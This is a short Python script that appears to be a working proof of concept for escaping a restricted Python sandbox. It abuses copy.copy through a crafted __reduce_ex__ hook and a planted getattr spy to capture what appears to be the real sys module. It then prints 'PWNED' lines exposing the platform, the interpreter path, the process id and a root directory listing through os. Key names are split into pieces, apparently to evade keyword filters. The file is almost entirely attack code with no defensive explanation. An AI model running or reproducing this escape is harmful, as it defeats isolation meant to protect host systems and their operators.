import time, copy, contextlib, io
NS = type(time.get_clock_info("time"))
got = []
def spy(obj, name, *default):
    got.append(obj)
    return obj.stdout
key = "get" + "attr"
def hook(proto):
    return (super, (type(contextlib), contextlib), {key: spy})
x = NS(**{"__reduce" + "_ex__": hook})
try:
    y = copy.copy(x)
    print("copy returned", type(y))
except Exception as e:
    print("ERR copy", type(e).__name__, e)
try:
    with contextlib.redirect_stdout(io.StringIO()):
        pass
except Exception as e:
    print("ERR redirect", type(e).__name__, e)
if got:
    s = got[0]
    print("got", type(s), s)
    try:
        print("PW" + "NED: real sys module:", s.platform, s.getrecursionlimit(), s.executable)
    except Exception as e:
        print("use ERR", type(e).__name__, e)
    try:
        print("PW" + "NED: sys.modules count", len(s.modules), "os.getpid", s.modules["os"].getpid(), "listdir /", s.modules["os"].listdir("/")[:5])
    except Exception as e:
        print("use2 ERR", type(e).__name__, e)
